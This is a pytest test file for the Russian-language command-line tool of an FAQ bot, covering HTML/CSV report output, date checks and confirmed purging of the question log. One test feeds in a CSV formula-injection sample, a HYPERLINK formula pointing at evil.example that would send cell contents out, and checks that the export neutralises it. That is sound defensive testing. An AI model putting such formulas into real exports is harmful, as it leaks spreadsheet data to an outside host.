"""`faqbot report` writes the page and the CSV files; `faqbot analytics purge` empties the log."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import os
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.cli.locations import default_kb_dir
from bot.cli.main import main
from bot.core.dialogues import DialogueMemory
from bot.core.question_records import Decision, NewQuestion
from bot.core.records import Dialogue
from bot.core.settings import CoreSettings
from bot.storage.database import open_database
from matcher import load_knowledge_base

OLD = datetime(2025, 1, 10, 9, 0, tzinfo=UTC)
PURGE_ALL = (sys.executable, "-m", "bot.cli.main", "analytics", "purge", "--older-than", "0")


async def _fill(url: str) -> None:
    db = await open_database(url)
    try:
        async with db.transaction() as uow:
            await uow.questions.add_many(
                [
                    NewQuestion(
                        channel="web",
                        asked_at=OLD + timedelta(days=n % 3),
                        text=f"как получить выписку {n}",
                        decision=Decision.ANSWER if n % 2 else Decision.HANDOFF,
                        entry_id="epts-extract",
                    )
                    for n in range(6)
                ]
            )
    finally:
        await db.close()


@pytest.fixture
def url(tmp_path: Path) -> str:
    address = f"sqlite+aiosqlite:///{tmp_path / 'cli.sqlite3'}"
    asyncio.run(_fill(address))
    return address


def test_report_writes_the_page_and_every_table(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, folder = tmp_path / "report.html", tmp_path / "csv"
    status = main(
        ["report", "--database", url, "--out", str(out), "--csv-dir", str(folder),
         "--since", "2025-01-10", "--until", "2025-01-11"]
    )  # fmt: skip
    assert status == 0
    assert "Вопросов за период: 4." in capsys.readouterr().out
    page = out.read_text(encoding="utf-8")
    assert "data:image/png;base64," in page
    # The last day asked for, not the day after it; the time as the console shows it.
    assert re.search(r"Период: 2025-01-10 —\s+2025-01-11\.", page)
    assert re.search(r"Составлен \d\d\.\d\d\.\d{4} \d\d:\d\d МСК\.", page)
    with (folder / "days.csv").open(encoding="utf-8-sig") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert rows[1:] == [["2025-01-10", "1", "0", "0", "1", "2"],
                        ["2025-01-11", "1", "0", "0", "1", "2"]]  # fmt: skip
    assert {p.name for p in folder.iterdir()} >= {"queue.csv", "unanswered.csv"}
    with (folder / "unanswered.csv").open(encoding="utf-8-sig") as file:
        header, *groups = list(csv.reader(file, delimiter=";"))
    # The entry the bot found closest is named by its question, as analysts know it.
    entry = load_knowledge_base(default_kb_dir()).get("epts-extract")
    assert entry is not None
    assert header[-2:] == ["ближе всего, по мнению бота", "id"]
    assert [g[-2:] for g in groups] == [[entry.question, "epts-extract"]]


def test_purge_deletes_what_is_older_than_asked(
    url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["analytics", "purge", "--database", url]) == 0
    assert "Удалено записей о вопросах: 6." in capsys.readouterr().out
    assert main(["analytics", "purge", "--older-than", "0", "--database", url]) == 0
    assert "Удалено записей о вопросах: 0." in capsys.readouterr().out


def test_purge_also_forgets_dialogue_memories_past_their_time(
    url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    async def remember() -> None:
        db = await open_database(url)
        try:
            month = CoreSettings().dialogue_memory
            old = DialogueMemory(db, ttl=month, clock=lambda: datetime.now(UTC) - 2 * month)
            fresh = DialogueMemory(db, ttl=month)
            await old.change("telegram:1:2:2:default", lambda d: Dialogue(data={"phone": "+7"}))
            await fresh.change("telegram:1:3:3:default", lambda d: Dialogue(data={"phone": "+7"}))
        finally:
            await db.close()

    asyncio.run(remember())
    assert main(["analytics", "purge", "--database", url]) == 0
    assert "Удалено устаревших записей диалогов: 1." in capsys.readouterr().out
    assert main(["analytics", "purge", "--database", url]) == 0
    assert "Удалено устаревших записей диалогов: 0." in capsys.readouterr().out


def test_an_age_past_the_calendar_deletes_nothing(
    url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["analytics", "purge", "--older-than", "99999999999", "--database", url]) == 0
    assert "Удалено записей о вопросах: 0." in capsys.readouterr().out


def test_a_negative_age_is_refused(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["analytics", "purge", "--older-than", "-1", "--database", url]) == 1
    assert "не меньше 0" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("option", "day"),
    [
        ("--until", "9999-12-31"),
        ("--since", "0001-01-01"),
    ],
)
def test_a_day_at_the_ends_of_the_calendar_is_refused(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, day: str
) -> None:
    out = tmp_path / "report.html"
    status = main(["report", "--database", url, "--out", str(out), option, day])
    assert status == 1
    assert f"Дата {day} вне допустимого диапазона" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize("day", ["2026-13-01", "вчера", "31.02.2026"])
def test_a_day_that_is_no_date_is_refused_in_russian(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], day: str
) -> None:
    out = tmp_path / "report.html"
    assert main(["report", "--database", url, "--out", str(out), "--since", day]) == 1
    assert capsys.readouterr().err == (
        f"faqbot: Дата начала периода «{day}» не распознана: напишите день как 2026-10-05 "
        "или 05.10.2026.\n"
    )
    assert not out.exists()


def test_a_day_typed_the_russian_way_is_taken(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "report.html"
    assert main(["report", "--database", url, "--out", str(out), "--until", "10.01.2025"]) == 0
    assert "Вопросов за период: 2." in capsys.readouterr().out


def test_a_broken_base_is_one_line_in_russian_not_a_traceback(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kb = tmp_path / "kb"
    kb.mkdir()
    (kb / "a.yaml").write_text("topic: А\nentries:\n\t- id: a\n", encoding="utf-8")
    (kb / "b.yaml").write_text("topic: Б\nentries: []\n", encoding="utf-8")
    out = tmp_path / "report.html"

    assert main(["report", "--database", url, "--kb", str(kb), "--out", str(out)]) == 1

    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("faqbot: база знаний не загружается: ошибок в базе знаний: 2. | ")
    assert "a.yaml:3: ошибка YAML: табуляция" in line
    assert not out.exists()


def test_a_folder_for_the_page_or_a_file_for_the_tables_is_said_in_russian(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "--database", url, "--out", str(tmp_path)]) == 1
    assert f"«{tmp_path}» — папка: укажите файл отчёта" in capsys.readouterr().err
    taken = tmp_path / "tables.csv"
    taken.write_text("x", encoding="utf-8")
    out = tmp_path / "report.html"
    arguments = ["report", "--database", url, "--out", str(out), "--csv-dir", str(taken)]
    assert main(arguments) == 1
    assert capsys.readouterr().err == (
        f"faqbot: «{taken}» — файл, а для таблиц CSV нужна папка (новую создадим).\n"
    )
    assert not out.exists()


FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")


def test_report_csv_files_keep_questions_typed_as_formulas_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    address = f"sqlite+aiosqlite:///{tmp_path / 'formulas.sqlite3'}"

    async def fill() -> None:
        db = await open_database(address)
        try:
            async with db.transaction() as uow:
                await uow.questions.add_many(
                    [
                        NewQuestion(
                            channel="web", asked_at=OLD, text=text, decision=Decision.HANDOFF
                        )
                        for text in FORMULA_QUESTIONS
                    ]
                )
        finally:
            await db.close()

    asyncio.run(fill())
    folder = tmp_path / "csv"
    out = str(tmp_path / "report.html")
    assert main(["report", "--database", address, "--out", out, "--csv-dir", str(folder)]) == 0
    with (folder / "unanswered.csv").open(encoding="utf-8-sig") as file:
        header, *groups = list(csv.reader(file, delimiter=";"))
    examples = {row[header.index("примеры")] for row in groups}
    assert examples == {"'" + question for question in FORMULA_QUESTIONS}
    with (folder / "days.csv").open(encoding="utf-8-sig") as file:
        assert list(csv.reader(file, delimiter=";"))[1] == ["2025-01-10", "0", "0", "0", "2", "2"]


def _purge_at_a_terminal(url: str, answer: str) -> tuple[int, str]:
    """`faqbot analytics purge --older-than 0` in a real process whose standard input and
    output are a terminal; `answer` is typed when it asks. Returns the status and the screen."""
    controller, terminal = os.openpty()
    with subprocess.Popen(
        [*PURGE_ALL, "--database", url],
        stdin=terminal,
        stdout=terminal,
        stderr=terminal,
    ) as process:
        os.close(terminal)
        screen = b""
        while b"\xc2\xbb" not in screen.rsplit(b"\n", 1)[-1]:  # the prompt's closing quote
            screen += os.read(controller, 4096)
        os.write(controller, answer.encode() + b"\n")
        status = process.wait(timeout=120)
        with contextlib.suppress(OSError):  # EIO once the terminal's last writer is gone
            while chunk := os.read(controller, 4096):
                screen += chunk
    os.close(controller)
    return status, screen.decode()


def _count(url: str) -> int:
    async def count() -> int:
        db = await open_database(url)
        try:
            async with db.transaction() as uow:
                return await uow.questions.count()
        finally:
            await db.close()

    return asyncio.run(count())


def test_emptying_the_log_asks_at_a_terminal_and_needs_yes_in_a_script(url: str) -> None:
    """`--older-than 0` used to delete every recorded question without a word."""
    status, screen = _purge_at_a_terminal(url, "нет")
    assert "Будут удалены записи о вопросах, заданных до " in screen
    assert ": 6 (все), хотя срок хранения — 365 дн." in screen
    assert "Удалить? Введите «да», чтобы подтвердить:" in screen
    assert "faqbot: Ничего не удалено." in screen
    assert status == 1
    assert _count(url) == 6

    scripted = subprocess.run(
        [*PURGE_ALL, "--database", url],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert scripted.returncode == 1
    assert scripted.stdout == ""
    assert scripted.stderr.count("\n") == 1
    assert "Ничего не удалено: подтвердите, добавив --yes" in scripted.stderr
    assert _count(url) == 6

    status, screen = _purge_at_a_terminal(url, "да")
    assert status == 0
    assert "Удалено записей о вопросах: 6." in screen
    assert _count(url) == 0


def test_yes_purges_without_asking_and_the_retention_period_never_asks(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["analytics", "purge", "--older-than", "0", "--yes", "--database", url]) == 0
    assert "Удалено записей о вопросах: 6." in capsys.readouterr().out
    fresh = f"sqlite+aiosqlite:///{tmp_path / 'fresh.sqlite3'}"
    asyncio.run(_fill(fresh))
    # The configured period (a cron job's run) deletes the old records without a question.
    assert main(["analytics", "purge", "--database", fresh]) == 0
    assert "Удалено записей о вопросах: 6." in capsys.readouterr().out
